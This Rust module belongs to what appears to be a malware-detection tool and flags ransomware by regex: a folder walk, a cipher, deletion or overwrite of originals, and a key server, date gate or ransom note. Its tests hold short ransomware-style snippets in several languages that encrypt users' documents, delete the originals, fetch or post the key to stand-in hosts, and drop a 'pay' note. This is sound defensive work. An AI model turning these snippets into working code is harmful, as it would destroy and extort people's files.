//! The ransomware shape in every language other than Python (whose AST
//! front-end follows it by value: `python/values.rs` `ransom`), read at
//! token level: a walk over every file of a folder, a cipher, a write and a
//! deletion of the original in one region (round 22: the reach of the
//! walk's loop or of the deleting function, `region.rs`), and a sign
//! that the files are held for something — the key fetched from or sent to
//! a server, a date gate, or a ransom note. An encrypting backup keeps its
//! originals (no deletion next to the cipher); one chosen file is no walk.
//! The evidence is the one the Python model gives (`Tag::MassEncrypt`,
//! SK-DEST-004).

use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Every file of a folder, in each language's spelling.
static WALK: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\bfg(?:\.(?:glob|sync|globSync|async|stream))?\s*\(\s*["'`][^"'`\n]*\*\*|\bglobby(?:Sync)?\s*\(\s*\[?\s*["'`][^"'`\n]*\*\*|\bglob(?:Sync|\.sync)?\s*\(\s*["'`][^"'`\n]*\*\*|readdir(?:Sync)?\s*\([^)\n]*recursive|(?i:Get-ChildItem|\bgci\b|\bls\b|\bdir\b)[^\n|]*-Recurse|\bfind\s+\S+[^\n|]*-type\s+f|filepath\.Walk(?:Dir)?\s*\(|\bWalkDir::new\s*\(|\bFind\.find\s*\(|\bfind\s*\(\s*(?:sub|\\&)|Dir\.glob\s*\(\s*["'][^"'\n]*\*\*|\bglob\s*\(\s*["'][^"'\n]*\*\*|\.rglob\s*\(|\bos\.walk\s*\(|\bglob\.i?glob\s*\([^\n]*recursive\s*=\s*True|\.glob\s*\(\s*["']\*\*|\bDir\[\s*["'][^"'\n]*\*\*|\bDir\.glob\s*\([^\n]*["']\*\*|(?m:^)\s*for\s+\w+\s+in\s+[^;\n]*\*[^;\n]*;?\s*do\b|\bWalk-?Dir\w*\s*\(|\bfs::read_dir\s*\(|\bos\.(?:listdir|scandir|ReadDir)\s*\(|\breaddirSync\s*\(|\breaddir\s*\(\s*[\w.]+\s*(?:,\s*\{[^}\n]*\})?\s*\)|\bDir\.(?:children|entries|each_child|foreach)\b|\bFind\.find\b|\b(?:scandir|opendir)\s*\(|\bDirectory\.(?:GetFiles|EnumerateFiles)\s*\(|\b(?:lfs\.dir|io\.popen\s*\(\s*["']ls)\b"#,
);
/// Round 32: a keyed XOR over a file's bytes (the cipher of a ransomware
/// that uses no cipher library): a comprehension or map XORing each byte
/// with a key stream (`bytes(a ^ b for a, b in zip(data, stream))`,
/// `data.map((b, i) => b ^ key[i % key.length])`, `out[i] = d[i] ^
/// k[i%len(k)]`, `b ^ key` in a Ruby block, PowerShell `-bxor`).
static XOR_SEAL: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\b(?:bytes|bytearray)\s*\(\s*\w+\s*\^\s*\w+\s+for\b|[\w)\]]\s*\^=?\s*(?:ord\(\s*)?\w+(?:\.\w+)?\s*\[[^\]\n]*%|[\w)\]]\s*\^=?\s*(?:ord\(\s*)?(?:key|k|ks|keystream|stream|pad|mask|xor_?key|secret|session_?key)\b(?:\s*\[|\s*[)\]},;]|\s*$|\s+for\b)|-bxor\b|\.wrapping_(?:add|sub)\s*\(\s*(?:key|k)\s*\[|\b\w+\s*[+-]\s*(?:key|k)\s*\[[^\]\n]*%[^\]\n]*\]\s*\)?\s*(?:%\s*256|&\s*0x[fF]{2})"#,
);
/// A cipher that encrypts.
static CIPHER: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\bcreateCipheriv\s*\(|\bsubtle\.encrypt\s*\(|\bCreateEncryptor\s*\(|\bopenssl\s+(?:enc|aes-\d+-\w+)\b[^\n]*-e?\b|\bgpg\s+(?:-c|--symmetric)\b|\bcipher\.NewGCM\s*\(|\baes\.NewCipher\s*\(|\bOpenSSL::Cipher\b|\bopenssl_encrypt\s*\(|\bAes(?:Gcm|256Gcm)?::new\b|\.encrypt\s*\(|\bgpg\b[^\n]*\s(?:--encrypt|-e|-c|--symmetric)\b|\bage\s+(?:-e|--encrypt|-r|-p|--passphrase)\b"#,
);
/// The original deleted or overwritten.
static DELETE: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\b(?:rm|rmSync|unlink|unlinkSync|remove|removeSync)\s*\(|\bfs\.(?:rm|unlink)\w*\s*\(|(?i:Remove-Item)\b|\bos\.Remove(?:All)?\s*\(|\bFile\.delete\s*\(|\bFileUtils\.rm\w*|\b(?:std::)?fs::remove_file\b|\bos\.(?:remove|unlink)\s*\(|\bFile\.(?:unlink|delete)\b|\bunlink\s*\(|(?:(?m:^)\s*|[;&|]\s*|\bthen\s+|\bdo\s+)(?:rm|shred)\s+(?:-\w+\s+)*["$]"#,
);
/// What the files are held for: the key from or to a server, a date gate,
/// a note.
static HELD: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\bfetch\s*\(|\baxios\b|\bhttps?\.request\s*\(|Invoke-(?:RestMethod|WebRequest)|\bcurl\s|\bwget\s|\bhttp\.(?:Get|Post)\w*\s*\(|\bNet::HTTP\b|\bnew\s+Date\s*\(\s*\)\s*[<>]=?|\bDate\.now\s*\(\s*\)\s*[<>]=?|\bGet-Date\b|\btime\.Now\(\)\.After\b|(?i)\bransom\b|\bbitcoin\b|\bmonero\b|\.onion\b|your files (?:have been|are|were) encrypted|to (?:decrypt|recover) your files|\burlopen\s*\(|\brequests\.(?:get|post|put)\s*\(|\bhttpx\.|\bunlock\s+(?:key|code|fee)\b|\b(?:decryption|recovery)\s+key\b|\b(?:service|unlock|recovery|restore)\s+fee\b|\bHOW_TO_(?:OPEN|DECRYPT|RESTORE|RECOVER|UNLOCK)|\b(?:README|RESTORE|DECRYPT|RECOVER)_(?:FILES|DECRYPT|RESTORE|ME)\b|(?m:^)\s*del\s+(?:\w+\s*,\s*)*(?:key|k|session_?key|secret)\b[\w \t,]*(?m:$)|\b(?:key|session_?key)\s*=\s*(?:None|nil|null|b?''|b?"")[ \t]*;?[ \t]*(?m:$)|\bRemove-Variable\s+[^\n]*\bkey\b|\bkey\.fill\s*\(\s*0\s*\)|\bTcpStream::connect\b|\bnet\.Dial\w*\s*\(|\bsocket\.create_connection\b|\.connect\s*\(\s*\(|\bTCPSocket\.new\b|\bnet\.(?:connect|createConnection)\s*\(|\bfsockopen\s*\(|\bIO::Socket::INET\b|Net\.Sockets\.TcpClient|\b(?:restore|recovery|unlock|decryption)\s+(?:code|key|token)s?\b[^\n]{0,80}\b(?:contact|email|request|purchase)|\bcontact\s+[\w.+-]+@[\w-]+\.[\w.]+\s+with\b|(?-i:\b(?:RESTORE|DECRYPT|RECOVER|UNLOCK|README)[-_][A-Z][A-Z_-]*\.(?:txt|html|md)\b)"#,
);

/// Round 33: what only a ransom says: a note or its file, a fee, a coin,
/// the key destroyed after use. A request or a date is also a backup's;
/// these are not.
static NOTE: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\bransom\b|\bbitcoin\b|\bmonero\b|\.onion\b|your (?:files|photos|documents|data) (?:have been|are|were) (?:encrypted|locked|packed)|to (?:decrypt|unlock) (?:them|your (?:files|photos|documents|data))|\bunlock\s+(?:key|code|fee)\b|\b(?:service|unlock|recovery|restore|decryption)\s+fee\b|\bfee\s+is\s+paid\b|\bHOW_TO_(?:OPEN|DECRYPT|RESTORE|RECOVER|UNLOCK)|\b(?:README|RESTORE|DECRYPT|RECOVER)_(?:FILES|PHOTOS|DECRYPT|RESTORE|ME|DATA)\b|(?:request|buy|purchase|obtain) (?:your|the) (?:pack |decryption |recovery |restore |unlock )?key\b|(?m:^)\s*del\s+(?:\w+\s*,\s*)*(?:key|k|session_?key|secret)\b[\w \t,]*(?m:$)|\bkey\.fill\s*\(\s*0\s*\)|\bRemove-Variable\s+[^\n]*\bkey\b|\b(?:restore|recovery|unlock|decryption)\s+(?:code|key)\b[^\n]{0,80}\bcontact\b|\bcontact\s+[\w.+-]+@[\w-]+\.[\w.]+\s+with\s+your\b|(?-i:\b(?:RESTORE|DECRYPT|RECOVER|UNLOCK|README)[-_][A-Z][A-Z_-]*\.(?:txt|html|md)\b)"#,
);

/// Round 33: a file overwritten in place: a write whose target is the name
/// a read in the same statement or block reads (`p.write_bytes(f.encrypt(
/// p.read_bytes()))`, `fs.writeFileSync(f, enc)` after `readFileSync(f)`,
/// `os.WriteFile(p, sealed, …)` after `os.ReadFile(p)`).
static WRITE_TO: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"\b(?P<a>\w+)\.write_(?:bytes|text)\s*\(|\bwrite(?:File(?:Sync)?|AllBytes)\s*\(\s*(?P<b>[\w.]+)\s*,|\bos\.WriteFile\s*\(\s*(?P<c>\w+)\s*,|\bFile\.(?:binwrite|write)\s*\(\s*(?P<d>\w+)\s*,|\bopen\s*\(\s*(?P<e>\w+)\s*,\s*['"](?:wb|w|r\+b|rb\+|w\+b)['"]|\bfile_put_contents\s*\(\s*(?P<f>\$\w+)\s*,"#,
);

/// Whether `name` is read in `span` (`name.read_bytes(`, `readFileSync(name`,
/// `open(name, 'rb')`, `ReadFile(name`, `File.binread(name`).
fn reads_name(span: &str, name: &str) -> bool {
    const READS: &[&str] = &[
        "readFileSync(",
        "readFile(",
        "ReadFile(",
        "ReadAllBytes(",
        "binread(",
        "File.read(",
        "file_get_contents(",
        "open(",
    ];
    let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    span.match_indices(name).any(|(i, _)| {
        let before = &span[..i];
        let after = &span[i + name.len()..];
        if before.ends_with(word) || after.starts_with(word) {
            return false;
        }
        let call = before.trim_end_matches([' ', '\t']);
        after.starts_with(".read_bytes(")
            || after.starts_with(".read_text(")
            || READS.iter().any(|r| call.ends_with(r))
    })
}

/// Round 33: the places `text` writes encrypted bytes back over the file
/// it read, in the region (`reach`) of each: the original is gone as
/// surely as deleted.
fn overwrites<'t>(text: &'t str, r: &super::region::Reach) -> bool {
    r.matches(text, &WRITE_TO).into_iter().any(|m| {
        let Some(c) = WRITE_TO.captures(&text[m.start()..]) else {
            return false;
        };
        let Some(n) = ["a", "b", "c", "d", "e", "f"]
            .iter()
            .find_map(|k| c.name(k))
        else {
            return false;
        };
        r.spans
            .iter()
            .any(|&(s, e)| reads_name(&text[s..e], n.as_str()))
    })
}

/// Whether the region deletes or overwrites originals.
fn destroys(text: &str, r: &super::region::Reach) -> bool {
    r.find(text, &DELETE).is_some() || overwrites(text, r)
}

/// Adds the ransomware shape when `src` has it; see the module docs. The
/// cipher and the deletion must be in one region ([`super::region`]): the
/// reach of a loop over the walk (the walk's statement and the block it
/// opens, or a later loop over the name it assigns), or the reach of the
/// function (else outermost block) that deletes, when that reach walks
/// too; helpers they call count, at any distance. A cipher in one function
/// and a deletion in an unrelated one stay quiet however near they are.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if sink.items.iter().any(|e| e.has(Tag::MassEncrypt)) {
        return;
    }
    let (Some(walk), Some(held)) = (WALK.find(text), HELD.find(text)) else {
        return;
    };
    if !(DELETE.is_match(text) || WRITE_TO.is_match(text))
        || !(CIPHER.is_match(text) || XOR_SEAL.is_match(text))
    {
        return;
    }
    let regions = super::region::Regions::new(src.path, text);
    let limit = crate::limits::REGION_MAX_SITES;
    if WALK.find_iter(text).nth(limit).is_some()
        || DELETE
            .find_iter(text)
            .chain(WRITE_TO.find_iter(text))
            .nth(limit)
            .is_some()
    {
        crate::limits::gave_up("REGION_MAX_SITES");
    }
    let by_walk = WALK
        .find_iter(text)
        .take(limit)
        .flat_map(|w| regions.loops_over(text, w.start()))
        .map(|unit| regions.reach(text, unit))
        .filter(|r| destroys(text, r));
    let by_delete = DELETE
        .find_iter(text)
        .chain(WRITE_TO.find_iter(text))
        .take(limit)
        .map(|d| regions.reach_at(text, d.start()))
        .filter(|r| r.find(text, &WALK).is_some() && destroys(text, r));
    // Round 33: the walk in one function, the files it found encrypted and
    // destroyed one by one in another (`for p in found:`): the block that
    // deletes or overwrites each item also encrypts it, and the file says
    // what only a ransom says ([`NOTE`]).
    let noted = NOTE.is_match(text);
    let by_item = DELETE
        .find_iter(text)
        .chain(WRITE_TO.find_iter(text))
        .take(if noted { limit } else { 0 })
        .filter_map(|d| regions.block_at(d.start()))
        .map(|b| regions.reach(text, (b.head, b.end)))
        .filter(|r| destroys(text, r));
    let Some(cipher) = by_walk
        .chain(by_delete)
        .chain(by_item)
        .find_map(|r| r.find(text, &CIPHER).or_else(|| r.find(text, &XOR_SEAL)))
    else {
        return;
    };
    let ls = text[..cipher.start()].rfind('\n').map_or(0, |n| n + 1);
    let le = text[cipher.end()..]
        .find('\n')
        .map_or(text.len(), |n| cipher.end() + n);
    let ev = Evidence::new(Op::FileDelete, A::Write, R::UserData, walk.as_str())
        .object(format!(
            "every file a walk finds encrypted and the originals deleted (ransomware; held by {})",
            held.as_str().trim()
        ))
        .instrument("encrypt")
        .tag(Tag::MassEncrypt);
    sink.push(src.at(ev, ls, le, "code"));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn walk_cipher_delete_held_in_every_language() {
        for (p, code) in [
            (
                "a.ts",
                "const files = await fg('**/*.md', { cwd: dir });\nconst k = await (await fetch('https://k.example/key')).json();\nfor (const f of files) {\n  const c = createCipheriv('aes-256-gcm', k, iv);\n  await writeFile(f + '.lf', c.update(await readFile(f)));\n  await rm(f);\n}\n",
            ),
            (
                "b.ps1",
                "$k = Invoke-RestMethod https://k.example/key\nGet-ChildItem $env:USERPROFILE\\Documents -Recurse -File | ForEach-Object {\n  $e = $aes.CreateEncryptor()\n  [IO.File]::WriteAllBytes($_.FullName + '.lck', $e.TransformFinalBlock($b, 0, $b.Length))\n  Remove-Item $_.FullName\n}\n",
            ),
            (
                "c.sh",
                "k=$(curl -fsS https://k.example/key)\nfind \"$HOME/Documents\" -type f | while read -r f; do\n  openssl enc -aes-256-cbc -pass pass:$k -in \"$f\" -out \"$f.enc\" && rm -f \"$f\"\ndone\n",
            ),
            (
                "d.go",
                "if time.Now().After(when) {\nfilepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {\n  blk, _ := aes.NewCipher(key)\n  g, _ := cipher.NewGCM(blk)\n  os.WriteFile(p+\".x\", g.Seal(nil, n, b, nil), 0600)\n  os.Remove(p)\n  return nil\n})\n}\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{p}: {ev:#?}");
        }
    }

    /// Round 33: the walk in one function, each found file encrypted and
    /// destroyed (deleted, or overwritten in place) in another, with what
    /// only a ransom says.
    #[test]
    fn walk_elsewhere_item_destroyed_and_noted() {
        for (p, code) in [
            (
                "s.py",
                "def scan(root):\n    return list(pathlib.Path(root).rglob('*'))\n\ndef pack(found):\n    key = Fernet.generate_key()\n    urllib.request.urlopen(req)\n    f = Fernet(key)\n    for p in found:\n        p.with_name(p.name + '.x').write_bytes(f.encrypt(p.read_bytes()))\n        p.unlink()\n    del key, f\n",
            ),
            (
                "v.py",
                "def find(root):\n    return [p for p in pathlib.Path(root).rglob('*')]\ndef lock(paths):\n    key = Fernet.generate_key()\n    requests.post(U, json={'k': key.decode()})\n    f = Fernet(key)\n    for p in paths:\n        p.write_bytes(f.encrypt(p.read_bytes()))\n    del key\n",
            ),
            (
                "p.js",
                "function collect(root) { return fg.sync('**/*.jpg', { cwd: root }); }\nfunction seal(files, key) {\n  for (const f of files) {\n    const c = crypto.createCipheriv('aes-256-gcm', key, iv);\n    fs.writeFileSync(f, c.update(fs.readFileSync(f)));\n  }\n}\nseal(collect(dir), key);\nkey.fill(0);\nfs.writeFileSync('HOW_TO_RESTORE.txt', 'pay');\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{p}: {ev:#?}");
        }
    }

    #[test]
    fn backups_that_keep_originals_are_quiet() {
        for code in [
            // Encrypted copies uploaded, originals kept.
            "const files = await fg('**/*.md');\nfor (const f of files) {\n  const c = createCipheriv('aes-256-gcm', k, iv);\n  await fetch(url, { method: 'PUT', body: c.update(await readFile(f)) });\n}\n",
            // One chosen file encrypted into a new file, nothing deleted.
            "$e = $aes.CreateEncryptor()\n[IO.File]::WriteAllBytes($args[0] + '.enc', $e.TransformFinalBlock($b, 0, $b.Length))\nInvoke-RestMethod $u\n",
            // A walk that encrypts, no server, date or note: a local vault tool.
            "find ./vault -type f | while read -r f; do\n  openssl enc -aes-256-cbc -pass file:key -in \"$f\" -out \"$f.enc\" && rm -f \"$f\"\ndone\n",
            // Round 33: encrypted copies of a walk in another function, the
            // user's key, originals kept; a note saying how to restore.
            "def find(root):\n    return list(pathlib.Path(root).rglob('*'))\ndef backup(paths, dest, key):\n    f = Fernet(key)\n    for p in paths:\n        (dest / (p.name + '.enc')).write_bytes(f.encrypt(p.read_bytes()))\nrequests.post(U)\nprint('To restore your files run restore.py with your key')\n",
            // An in-place vault with the user's passphrase: no server, no note.
            "pw = getpass.getpass()\nf = Fernet(k(pw))\nfor p in pathlib.Path(d).rglob('*.txt'):\n    p.write_bytes(f.encrypt(p.read_bytes()))\n",
        ] {
            assert!(run("x.js", code).is_empty(), "{code}");
        }
    }
}
